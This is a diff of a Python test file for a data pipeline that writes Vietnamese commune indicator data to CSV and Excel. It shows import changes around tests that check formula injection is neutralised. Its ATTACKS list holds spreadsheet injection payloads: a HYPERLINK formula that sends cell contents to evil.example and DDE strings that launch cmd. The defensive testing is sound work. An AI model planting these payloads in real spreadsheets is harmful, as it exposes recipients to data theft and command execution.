@@ -2,7 +2,6 @@
 
 import csv
 import io
-import shutil
 import zipfile
 
 import pandas as pd
@@ -14,7 +13,7 @@ from pipeline.cli import main
 from pipeline.config import DataPaths
 from pipeline.ingest import ingest
 from pipeline.store import Store
-from tests.conftest import SEED
+from tests.helpers import SEED
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -95,7 +94,7 @@ def test_the_form_writes_a_communes_text_as_text_not_a_formula(noted, tmp_path):
 
 
 def test_the_office_writer_quotes_formulas_and_the_ingest_reads_them_back(tmp_path):
-    from pipeline.office_writer import read_seed, write_xlsx
+    from devtools.office_writer import read_seed, write_xlsx
 
     line = "1.1.1.\tSố nhiệm vụ đề ra trong kế hoạch\tNhiệm vụ\t6\t"
     text = SEED.read_text(encoding="utf-8").replace(line, line + ATTACKS[0].replace('"', "'"), 1)
@@ -111,7 +110,7 @@ def test_the_office_writer_quotes_formulas_and_the_ingest_reads_them_back(tmp_pa
 
 
 def test_the_sample_csv_writer_quotes_formulas():
-    from pipeline.sample import long_csv_text
+    from devtools.sample import long_csv_text
 
     frame = pd.DataFrame([{"commune_code": "18133", "period": "2021-Q3", "indicator_code": "1.1.1", "value": 6.0,
                            "note": "=1+2"}])
